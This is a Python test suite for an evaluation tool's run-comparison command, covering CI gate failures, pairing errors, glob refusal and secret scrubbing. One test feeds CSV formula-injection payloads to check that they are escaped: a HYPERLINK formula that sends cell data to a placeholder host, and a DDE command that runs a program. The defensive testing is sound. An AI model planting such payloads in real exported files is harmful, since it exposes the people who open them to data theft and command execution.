"""Issue 22 items 5, 6 and 8: compare must not pass a CI job it could not
check. A gate on a metric that is null (or missing) on a side fails with the
reason; nothing paired exits 2; derived case ids come from the inputs, never
from the answer; an --output with glob characters is refused."""
from __future__ import annotations

import glob
import json
import os

import pyarrow.parquet as pq

import numpy as np

from pipeline.cli import run
from schemas.cases import source_columns, to_case
from tests.compare_tables import write_run
from tests.pipeline_helpers import run_cli

IDS = [f"c{i}" for i in range(40)]
SUITES, VERDICTS = np.array(["s"] * 40), np.array(["PASS"] * 40)


def _values(shift: float = 0.0, null: bool = False) -> np.ndarray:
    return np.full(40, np.nan) if null else np.clip(np.linspace(0.2, 0.8, 40) + shift, 0, 1)


def _compare(out: str, *extra: str) -> int:
    return run(["compare", "--output", out, "--baseline", "b", "--candidate", "c", *extra])


def _gate(tmp_path, text: str) -> str:
    cfg = tmp_path / "gate.yaml"
    cfg.write_text(text)
    return str(cfg)


def test_a_gate_on_a_metric_null_in_the_candidate_fails(tmp_path, capsys):
    """Item 5: it printed `gate: passed (2 rules, 2 checks)` and exited 0."""
    out = str(tmp_path / "out")
    write_run(out, "b", "2026-01-01", "bot", IDS, SUITES,
              {"faithfulness": _values(), "rougeL": _values()}, VERDICTS)
    write_run(out, "c", "2026-01-02", "bot", IDS, SUITES,
              {"faithfulness": _values(null=True), "rougeL": _values()}, VERDICTS)
    cfg = _gate(tmp_path, "gate:\n  - {metric: faithfulness, max_drop: 0.02}\n"
                          "  - {metric: rougeL, max_drop: 0.02}\n")
    capsys.readouterr()
    assert _compare(out, "--config", cfg) == 4
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == ("gate: FAILED gate[0] {metric: faithfulness, max_drop: 0.02}: bot "
                        "faithfulness: null in every case of the candidate (40 paired cases, "
                        "none with a value on both sides)"), lines
    assert lines[1] == "gate: 1 of 2 checks failed (2 rules)"


def test_a_gate_on_a_metric_null_in_the_baseline_or_missing_fails(tmp_path, capsys):
    out = str(tmp_path / "out")
    write_run(out, "b", "2026-01-01", "bot", IDS, SUITES,
              {"faithfulness": _values(null=True), "bleu": _values()}, VERDICTS)
    write_run(out, "c", "2026-01-02", "bot", IDS, SUITES, {"faithfulness": _values()}, VERDICTS)
    cfg = _gate(tmp_path, "gate:\n  - {metric: faithfulness, max_drop: 0.02}\n"
                          "  - {metric: bleu, max_drop: 0.02}\n")
    capsys.readouterr()
    assert _compare(out, "--config", cfg) == 4
    said = capsys.readouterr().out
    assert "faithfulness: null in every case of the baseline" in said
    assert "bleu: not computed in the candidate run" in said
    assert "gate: 2 of 2 checks failed (2 rules)" in said
    page = open(os.path.join(out, "runs", "c", "compare", "b.md"), encoding="utf-8").read()
    assert "not computed in the candidate run" in page


def test_a_gate_rule_naming_no_metric_of_either_run_is_still_a_usage_error(tmp_path, capsys):
    out = str(tmp_path / "out")
    for run_id in ("b", "c"):
        write_run(out, run_id, "2026-01-01", "bot", IDS, SUITES, {"bleu": _values()}, VERDICTS)
    capsys.readouterr()
    assert _compare(out, "--config", _gate(tmp_path, "gate: [{metric: blue, max_drop: 0.1}]\n")
                    ) == 2
    assert "matches nothing compared" in capsys.readouterr().err


def test_nothing_paired_exits_2_and_writes_nothing(tmp_path, capsys):
    """Item 6: '0 paired cases … 5 only in baseline, 5 only in candidate', exit 0."""
    out = str(tmp_path / "out")
    write_run(out, "b", "2026-01-01", "bot", IDS[:5], SUITES[:5], {"bleu": _values()[:5]},
              VERDICTS[:5])
    write_run(out, "c", "2026-01-02", "bot", IDS[5:10], SUITES[:5], {"bleu": _values()[:5]},
              VERDICTS[:5])
    capsys.readouterr()
    assert _compare(out) == 2
    err = capsys.readouterr().err.strip()
    assert err == ("evalbeam: error: no case of c pairs with one of b: 5 only in baseline, 5 "
                   "only in candidate, 0 with a repeated case id (are they the same cases? "
                   "give both inputs a case_id column)"), err
    assert not os.path.exists(os.path.join(out, "comparisons"))
    assert not os.path.exists(os.path.join(out, "runs", "c", "compare"))


def test_derived_case_ids_come_from_the_inputs_not_the_answer():
    cols = source_columns({})
    case = {"question": "How long is the refund window?", "contexts": ["30 days."],
            "expected_answer": "30 days.", "messages": [{"role": "user", "content": "Hi"}]}
    ids = {to_case({**case, **extra}, cols, "f#0").case_id
           for extra in ({"answer": "30 days."}, {"answer": "Ninety days."}, {},
                         {"suite": "billing", "tags": ["x"]}, {"label": "PASS"})}
    assert len(ids) == 1
    for changed in ({"question": "Other?"}, {"contexts": ["60 days."]},
                    {"expected_answer": "60 days."}, {"messages": None}):
        assert to_case({**case, **changed}, cols, "f#0").case_id not in ids, changed


def test_two_ragas_files_without_ids_pair_by_their_inputs(tmp_path, capsys):
    """Item 6 end to end: a baseline and a candidate in the Ragas form (no ids,
    different responses) pair all their cases."""
    rows = [{"user_input": f"How long is the refund window for plan {i}?",
             "retrieved_contexts": [f"Plan {i}: refunds within {20 + i} days."],
             "reference": f"Refunds within {20 + i} days."} for i in range(5)]
    out = str(tmp_path / "out")
    cfg = tmp_path / "c.yaml"
    cfg.write_text("input: {preset: ragas}\nbots:\n  - {name: recorded, type: precomputed}\n"
                   "metrics: [exact_match, keyword_recall]\n")
    for run_id, answer in (("b", "Refunds within {d} days."), ("c", "About {d} days, I think.")):
        path = tmp_path / f"{run_id}.jsonl"
        path.write_text("".join(json.dumps({**r, "response": answer.format(d=20 + i)}) + "\n"
                                for i, r in enumerate(rows)))
        assert run_cli("--input", str(path), "--output", out, "--config", str(cfg),
                       "--run-id", run_id) == 0
    capsys.readouterr()
    assert _compare(out) == 0
    assert "5 paired cases over 1 bot; 0 only in baseline, 0 only in candidate" \
        in capsys.readouterr().out


def test_post_run_commands_refuse_an_output_with_glob_characters(tmp_path, capsys):
    """Item 8: `compare --output 'out*'` read every matching folder and created a
    literal `out*/` folder."""
    for name in ("out1", "out2"):
        for run_id in ("b", "c"):
            write_run(str(tmp_path / name), run_id, "2026-01-01", "bot", IDS, SUITES,
                      {"bleu": _values()}, VERDICTS)
    pattern = str(tmp_path / "out*")
    for argv in (["compare", "--output", pattern, "--baseline", "b", "--candidate", "c"],
                 ["status", "--output", pattern, "--run-id", "c"],
                 ["calibrate", "--output", pattern, "--run-id", "c"]):
        capsys.readouterr()
        assert run(argv) == 2, argv
        err = capsys.readouterr().err.strip()
        assert err.startswith(f"evalbeam: error: --output {pattern!r} contains the glob "
                              "character(s) *") and "\n" not in err, err
    assert sorted(os.listdir(tmp_path)) == ["out1", "out2"]


def test_unpaired_csv_cells_cannot_run_as_formulas(tmp_path):
    """Item 12: `=HYPERLINK(...)` or `=1+1` went into unpaired.csv as is; OWASP's
    fix is a leading ' on a cell starting with = + - @ tab or CR."""
    import csv
    from pipeline.postrun.compare import Side, compare
    out = str(tmp_path / "out")
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=1+1", "+cmd|' /C calc'!A0",
               "-2+3", "@SUM(A1)", "\tx", "\rx", "plain"]
    write_run(out, "b", "2026-01-01", "bot", IDS[:5] + hostile, np.array(["s"] * 13),
              {"bleu": np.linspace(0, 1, 13)}, np.array(["PASS"] * 13))
    write_run(out, "c", "2026-01-02", "bot", IDS[:5], SUITES[:5], {"bleu": _values()[:5]},
              VERDICTS[:5])
    c = compare(out, Side("b"), Side("c"))
    with open(c["unpaired_csv"], newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    got = sorted(r["case_id"] for r in rows)
    assert got == sorted(("'" + h if h != "plain" else h) for h in hostile), got
    assert all(r["kind"] == "only_in_baseline" and r["bot"] == "bot" for r in rows)


def test_a_compare_error_quoting_a_configured_secret_does_not_print_it(tmp_path, capsys,
                                                                         monkeypatch):
    """compare printed its errors as they were, where run's go through the
    process scrubber: a key pasted as a run id (or quoted by any compare
    error) that the config names (api_key_env, ${VAR}) was printed whole."""
    import secrets as _secrets
    keys = {"EB_CMP_KEY": "sk-" + _secrets.token_hex(16),
            "EB_CMP_BODY": "Tk" + _secrets.token_hex(16)}
    for name, value in keys.items():
        monkeypatch.setenv(name, value)
    cfg = _gate(tmp_path, "endpoints:\n  llm: {base_url: 'http://127.0.0.1:9/v1', "
                          "api_key_env: EB_CMP_KEY}\n"
                          "bots:\n  - {name: web, type: http, endpoint: llm, "
                          "options: {answer_path: a, body: {q: '{question}', "
                          "token: '${EB_CMP_BODY}'}}}\n")
    out = str(tmp_path / "out")
    write_run(out, "c", "2026-01-02", "bot", IDS, SUITES, {"rougeL": _values()}, VERDICTS)
    for value in keys.values():
        assert run(["compare", "--output", out, "--baseline", value, "--candidate", "c",
                    "--config", cfg]) == 2
        err = capsys.readouterr().err
        assert err.startswith("evalbeam: error: run ") and value not in err, err


def _refund_cases(tmp_path) -> str:
    """Six cases with recorded answers, two of them wrong."""
    from tests.conftest import write_cases
    rows = [{"case_id": f"k{i}", "question": f"How long does refund {i} take?",
             "contexts": [f"Refund {i} takes {i + 3} days."],
             "expected_answer": f"Refund {i} takes {i + 3} days.",
             "answer": f"Refund {i} takes {i + 3 if i % 3 else 99} days."} for i in range(6)]
    return write_cases(str(tmp_path / "cases.parquet"), rows)


def test_what_differs_between_two_real_runs_is_said_on_the_console(tmp_path, capsys):
    """Before: comparing a run of the default preset with one of `--preset seed
    --metrics rouge,exact_match` printed only the pass rates (0.667 → 0.000,
    'significantly worse'), nothing about the 15 metrics compared on one side
    only (the pages said it, the CI log did not) nor about the verdicts
    coming from other rules, so the drop read as the bot's."""
    cases = _refund_cases(tmp_path)
    out = str(tmp_path / "out")
    for run_id, extra in (("b", ()), ("same", ()),
                          ("c", ("--preset", "seed", "--metrics", "rouge,exact_match"))):
        assert run_cli("--input", cases, "--output", out, "--run-id", run_id, *extra) == 0
    capsys.readouterr()
    assert _compare(out) == 0
    lines = capsys.readouterr().out.splitlines()
    only = next(x for x in lines if x.startswith("not compared: "))
    assert only.startswith("not compared: metrics only in the baseline: ") and \
        "hallucination" in only and "rougeL" not in only, lines
    note = next(x for x in lines if x.startswith("note: "))
    assert note.startswith("note: the runs' verdicts come from different rules (baseline: "
                           "preset default, "), note
    assert "candidate: preset seed, " in note and "not only the answers" in note, note
    page = open(os.path.join(out, "runs", "c", "compare", "b.md"), encoding="utf-8").read()
    assert "different rules" in page
    assert run(["compare", "--output", out, "--baseline", "b", "--candidate", "same"]) == 0
    said = capsys.readouterr().out
    assert "not compared" not in said and "note:" not in said, said


def test_a_gate_finding_prints_p_so_that_its_comparison_with_alpha_reads_true(tmp_path, capsys):
    """Before: with `alpha: A` between the real p_holm and its two-digit rounding the
    build failed with 'gate: FAILED ... (drop 0.333 > 0.01, p_holm 0.012 < 0.0117188)':
    the line gave as its reason a comparison that is false as printed."""
    import pyarrow.dataset as ds
    import pyarrow.parquet as pq
    from tests.conftest import ROOT
    cases = str(tmp_path / "cases.parquet")
    # 32 rows: the default verdict PASSes faq on 9, the restricted run on none, so
    # McNemar's p_holm is 3 * 2**-8 = 0.0117, which two digits round up (0.012); the
    # verdict's cut-offs decide this (with 30 rows it is 3 * 2**-7 = 0.0234, rounded
    # down, and the assertion below says the case is gone)
    pq.write_table(pq.read_table(os.path.join(ROOT, "examples", "support", "cases.parquet"))
                   .slice(0, 32), cases)
    cfg = tmp_path / "faq.yaml"
    cfg.write_text("bots:\n  - {name: faq, type: faq_match, faq: "
                   f"{os.path.join(ROOT, 'examples', 'support', 'faq.parquet')}}}\n")
    out = str(tmp_path / "out")
    for run_id, extra in (("b", ()), ("c", ("--metrics", "rouge,bleu,exact_match"))):
        assert run_cli("--input", cases, "--output", out, "--config", str(cfg),
                       "--run-id", run_id, *extra) == 0
    assert _compare(out) == 0
    table = ds.dataset(os.path.join(out, "comparisons"), partitioning="hive").to_table()
    p = next(r["p_adjusted"] for r in table.to_pylist()
             if r["metric"] == "pass_rate" and r["suite"] == "*")
    shown = float(f"{p:.2g}")
    assert shown > p  # the case this is about: two digits round p up
    alpha = (p + shown) / 2
    capsys.readouterr()
    assert _compare(out, "--config", _gate(tmp_path, "gate:\n  - {metric: pass_rate, "
                                                     f"max_drop: 0.01, alpha: {alpha!r}}}\n")) == 4
    first = capsys.readouterr().out.splitlines()[0]
    printed_p, printed_alpha = first.rsplit("p_holm ", 1)[1].rstrip(")").split(" < ")
    assert float(printed_p) < float(printed_alpha) == alpha, first


def test_a_bot_renamed_between_two_real_runs_is_named_on_the_console(tmp_path, capsys):
    """Before: 'compare c vs b: 6 paired cases over 1 bot; 6 only in baseline, 6
    only in candidate' and exit 0: which bot went uncompared (renamed
    `recorded` -> `recorded_v2`) was only in the unpaired CSV."""
    cases = _refund_cases(tmp_path)
    out = str(tmp_path / "out")
    for run_id, bot in (("b", "recorded"), ("c", "recorded_v2")):
        cfg = tmp_path / f"{run_id}.yaml"
        cfg.write_text(f"bots:\n  - {{name: {bot}, type: precomputed}}\n"
                       "  - {name: kept, type: precomputed}\n")
        assert run_cli("--input", cases, "--output", out, "--config", str(cfg),
                       "--run-id", run_id) == 0
    capsys.readouterr()
    assert _compare(out) == 0
    lines = capsys.readouterr().out.splitlines()
    assert "6 paired cases over 1 bot; 6 only in baseline, 6 only in candidate" in lines[0]
    assert ("not compared: bots only in the baseline: recorded (6 cases); bots only in the "
            "candidate: recorded_v2 (6 cases)") in lines, lines
    # before: 'gate[0] {...} matches nothing compared (bots: kept; metrics: ...)', as for a typo
    gate = _gate(tmp_path, "gate: [{metric: pass_rate, max_drop: 0.1, bot: recorded_v2}]\n")
    assert _compare(out, "--config", gate) == 2
    assert capsys.readouterr().err.strip() == (
        "evalbeam: error: gate[0] {metric: pass_rate, max_drop: 0.1, bot: recorded_v2} names a "
        "bot only the candidate run has (6 cases): nothing to compare it with")


def test_two_runs_with_no_bot_in_common_say_so_not_that_the_cases_differ(tmp_path, capsys):
    """The same six cases, the run's only bot renamed (`recorded` ->
    `recorded_v2`): 'no case of c pairs with one of b: 6 only in baseline, 6
    only in candidate ... (are they the same cases? give both inputs a case_id
    column)' sent the user after case ids that were fine. It now says the runs
    share no bot, and how to compare the two bots."""
    cases = _refund_cases(tmp_path)
    out = str(tmp_path / "out")
    for run_id, bot in (("b", "recorded"), ("c", "recorded_v2")):
        cfg = tmp_path / f"{run_id}.yaml"
        cfg.write_text(f"bots:\n  - {{name: {bot}, type: precomputed}}\n")
        assert run_cli("--input", cases, "--output", out, "--config", str(cfg),
                       "--run-id", run_id) == 0
    capsys.readouterr()
    assert _compare(out) == 2
    assert capsys.readouterr().err.strip() == (
        "evalbeam: error: no case of c pairs with one of b: the runs have no bot in common "
        "(baseline: recorded; candidate: recorded_v2); to compare two bots give both: "
        "--baseline b:recorded --candidate c:recorded_v2")
    assert not os.path.exists(os.path.join(out, "comparisons"))
    assert _compare_bots(out, "b:recorded", "c:recorded_v2") == 0


def _compare_bots(out: str, baseline: str, candidate: str) -> int:
    return run(["compare", "--output", out, "--baseline", baseline, "--candidate", candidate])


def test_a_gate_on_a_suite_the_candidate_dropped_fails_instead_of_calling_it_a_typo(
        tmp_path, capsys):
    """The baseline's suite billing is renamed Billing in the candidate: a gate
    rule on billing exited 2, 'matches nothing compared', as for a typo, where
    a bot the candidate lacks fails its rules (exit 4). Nothing of the suite
    could be checked, so the rule fails, saying why; a suite neither run has is
    still a typo."""
    out = str(tmp_path / "out")
    suites = np.array(["billing"] * 20 + ["login"] * 20)
    write_run(out, "b", "2026-01-01", "bot", IDS, suites, {"bleu": _values()}, VERDICTS)
    write_run(out, "c", "2026-01-02", "bot", IDS, np.char.replace(suites, "billing", "Billing"),
              {"bleu": _values()}, VERDICTS)
    capsys.readouterr()
    assert _compare(out, "--config", _gate(tmp_path, "gate:\n"
                    "  - {metric: bleu, max_drop: 0.1, suite: billing}\n"
                    "  - {metric: bleu, max_drop: 0.1, suite: login}\n")) == 4
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == ("gate: FAILED gate[0] {metric: bleu, max_drop: 0.1, suite: billing}: "
                        "bot suite billing bleu: the candidate run has no case in the suite "
                        "(20 in the baseline): renamed or dropped"), lines
    assert lines[1] == "gate: 1 of 2 checks failed (2 rules)"
    for rule in ("{metric: bleu, max_drop: 0.1, suite: billng}",
                 "{metric: blue, max_drop: 0.1, suite: billing}"):
        assert _compare(out, "--config", _gate(tmp_path, f"gate: [{rule}]\n")) == 2
        assert "matches nothing compared" in capsys.readouterr().err


def test_a_suite_one_bot_dropped_fails_the_gate_while_another_bot_passes(tmp_path, capsys):
    """A rule without `bot:` checks every bot: the one that kept the suite is
    compared, the one whose candidate dropped it fails."""
    out = str(tmp_path / "out")
    suites = np.array(["billing"] * 20 + ["login"] * 20)
    for bot in ("faq", "rag"):
        write_run(out, "b", "2026-01-01", bot, IDS, suites, {"bleu": _values()}, VERDICTS)
    write_run(out, "c", "2026-01-02", "faq", IDS, suites, {"bleu": _values()}, VERDICTS)
    write_run(out, "c", "2026-01-02", "rag", IDS, np.array(["login"] * 40),
              {"bleu": _values()}, VERDICTS)
    capsys.readouterr()
    assert _compare(out, "--config", _gate(
        tmp_path, "gate: [{metric: bleu, max_drop: 0.1, suite: billing}]\n")) == 4
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].endswith("rag suite billing bleu: the candidate run has no case in the "
                             "suite (20 in the baseline): renamed or dropped"), lines
    assert lines[1] == "gate: 1 of 2 checks failed (1 rule)"


def test_a_large_drop_too_few_cases_can_show_is_a_warning_not_a_silent_pass(tmp_path, capsys):
    """Every case PASS -> FAIL and faithfulness 1 -> 0 over 2 cases printed
    `gate: passed (2 rules, 2 checks)`: no test can be significant at 2 pairs,
    and nothing said so."""
    out, ids = str(tmp_path / "out"), ["c0", "c1"]
    write_run(out, "b", "2026-01-01", "bot", ids, SUITES[:2], {"faithfulness": np.ones(2)},
              VERDICTS[:2])
    write_run(out, "c", "2026-01-02", "bot", ids, SUITES[:2], {"faithfulness": np.zeros(2)},
              np.array(["FAIL"] * 2))
    cfg = _gate(tmp_path, "gate:\n  - {metric: faithfulness, max_drop: 0.02}\n"
                          "  - {metric: pass_rate, max_drop: 0.02}\n")
    capsys.readouterr()
    assert _compare(out, "--config", cfg) == 0  # no significant regression: still exit 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[:3] == [
        "gate: WARN gate[0] {metric: faithfulness, max_drop: 0.02}: bot faithfulness 1.000 → "
        "0.000 (drop 1 > 0.02, p_holm 1 ≥ 0.05); not significant over 2 paired cases (too "
        "few, or too noisy, to tell the drop from chance)",
        "gate: WARN gate[1] {metric: pass_rate, max_drop: 0.02}: bot pass_rate 1.000 → 0.000 "
        "(drop 1 > 0.02, p_holm 1 ≥ 0.05); not significant over 2 paired cases (too few, or "
        "too noisy, to tell the drop from chance)",
        "gate: passed (2 rules, 2 checks; 2 with a warning)"], lines
    page = open(os.path.join(out, "runs", "c", "compare", "b.md"), encoding="utf-8").read()
    assert page.count("- **WARN** gate[") == 2
    html = open(os.path.join(out, "runs", "c", "compare", "b.html"), encoding="utf-8").read()
    assert "passed, 2 with a warning" in html


def test_a_gate_that_saw_part_of_the_baseline_says_what_it_left_out(tmp_path, capsys):
    """30 of 40 baseline cases paired, 5 of those null in the candidate: the
    gate checked 25 cases and printed `gate: passed (1 rule, 1 check)`."""
    out = str(tmp_path / "out")
    write_run(out, "b", "2026-01-01", "bot", IDS, SUITES, {"faithfulness": _values()}, VERDICTS)
    cand = _values()[:30]
    cand[:5] = np.nan
    write_run(out, "c", "2026-01-02", "bot", IDS[:30], SUITES[:30], {"faithfulness": cand},
              VERDICTS[:30])
    cfg = _gate(tmp_path, "gate:\n  - {metric: faithfulness, max_drop: 0.02}\n")
    capsys.readouterr()
    assert _compare(out, "--config", cfg) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("gate: WARN gate[0] {metric: faithfulness, max_drop: 0.02}: "
                               "bot faithfulness "), lines
    assert lines[0].endswith("; baseline cases not checked: 10 only in the baseline, 5 null "
                             "in the candidate"), lines
    assert lines[1] == "gate: passed (1 rule, 1 check; 1 with a warning)"


def test_a_config_without_gate_rules_says_nothing_was_gated(tmp_path, capsys):
    """`--config eval.yaml` whose gate: is empty (or absent) printed no gate
    line at all and exited 0, as a gate that passed would."""
    out = str(tmp_path / "out")
    for run_id, day in (("b", "2026-01-01"), ("c", "2026-01-02")):
        write_run(out, run_id, day, "bot", IDS, SUITES, {"faithfulness": _values()}, VERDICTS)
    for text in ("gate: []\n", "metrics: [faithfulness]\n"):
        cfg = _gate(tmp_path, text)
        capsys.readouterr()
        assert _compare(out, "--config", cfg) == 0
        assert capsys.readouterr().out.splitlines()[0] == \
            f"gate: none (--config {cfg} has no gate: rules)"


def test_a_summary_without_a_column_evalbeam_writes_is_one_line(tmp_path, capsys):
    """A summary/ file written by hand without higher_is_better crashed compare
    with DuckDB's Binder Error traceback; it is one line naming the column."""
    out = str(tmp_path / "out")
    for run_id, date in (("b", "2026-01-01"), ("c", "2026-01-02")):
        write_run(out, run_id, date, "bot", IDS, SUITES, {"rougeL": _values()}, VERDICTS)
    for path in glob.glob(f"{out}/summary/run_date=2026-01-01/*.parquet"):
        pq.write_table(pq.read_table(path).drop(["higher_is_better"]), path)
    assert _compare(out) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "a file lacks the column higher_is_better that evalbeam " \
        "writes" in err, err
    assert not os.path.exists(os.path.join(out, "comparisons"))

